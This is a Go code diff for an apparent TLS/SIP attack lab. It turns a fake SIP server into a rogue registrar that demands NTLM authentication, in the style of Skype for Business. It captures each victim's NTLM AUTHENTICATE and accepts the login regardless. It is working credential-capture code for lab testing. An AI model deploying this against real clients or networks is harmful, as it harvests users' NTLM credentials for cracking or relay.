@@ -9,6 +9,8 @@ import (
 	"time"
 
 	sipgo "github.com/emiago/sipgo/sip"
+
+	"github.com/tlslab/tlslab/actors/ntlm"
 )
 
 // SIPResponder makes the attacker the victim's server: no upstream
@@ -17,18 +19,43 @@ import (
 // was steered to the attacker's own host (a hijacked DNS name, a poisoned
 // SRV record) and there is no real server to relay to; the proxy's capture
 // still records every request. Pair it with ProxyConfig.SIP.
+//
+// With NTLM set, the responder is a rogue registrar that demands NTLM as
+// a Skype for Business pool does (MS-SIPAE, see sip.NTLMAuth): it answers
+// a connection's first REGISTERs 401 until the victim has sent an
+// AUTHENTICATE, which it hands to NTLM, then 200 as before.
 type SIPResponder struct {
 	// Agent is the Server header of the answers; empty means
 	// "tlslab-sip", what the lab's real servers send.
 	Agent string
+	// NTLM, when set, draws the CHALLENGEs and receives every
+	// AUTHENTICATE (Authenticate, so its OnCapture gets the
+	// ntlm.Captured). Give it a capture-only server (no Users): the
+	// REGISTER that carries the AUTHENTICATE is answered 200 whatever
+	// NTLM's verdict, for the attacker wants the response, not the user.
+	// Nil (the default) demands nothing.
+	NTLM *ntlm.Server
+	// TargetName is the server name the demand claims (targetname);
+	// empty means the victim's SNI, or the address it dialled.
+	TargetName string
 }
 
 // Connect implements UpstreamSide: it returns an in-memory connection to a
 // goroutine that answers requests until the proxy closes it.
-func (r SIPResponder) Connect(_ context.Context, _ UpstreamTarget, hs *Handshake) (net.Conn, error) {
+func (r SIPResponder) Connect(_ context.Context, t UpstreamTarget, hs *Handshake) (net.Conn, error) {
 	agent := r.Agent
 	if agent == "" {
 		agent = "tlslab-sip"
+	}
+	var demand *ntlmDemand
+	if r.NTLM != nil {
+		demand = &ntlmDemand{srv: r.NTLM, target: r.TargetName}
+		if demand.target == "" {
+			demand.target = t.ServerName
+		}
+		if demand.target == "" {
+			demand.target = t.Dialled.Addr().String()
+		}
 	}
 	reqR, reqW := io.Pipe()
 	resR, resW := io.Pipe()
@@ -50,7 +77,10 @@ func (r SIPResponder) Connect(_ context.Context, _ UpstreamTarget, hs *Handshake
 				if !isReq || req.IsAck() {
 					continue
 				}
-				res := sipgo.NewResponseFromRequest(req, sipgo.StatusOK, "OK", nil)
+				res := demand.answer(req)
+				if res == nil {
+					res = sipgo.NewResponseFromRequest(req, sipgo.StatusOK, "OK", nil)
+				}
 				res.AppendHeader(sipgo.NewHeader("Server", agent))
 				if _, werr := io.WriteString(resW, res.String()); werr != nil {
 					reqR.CloseWithError(werr)
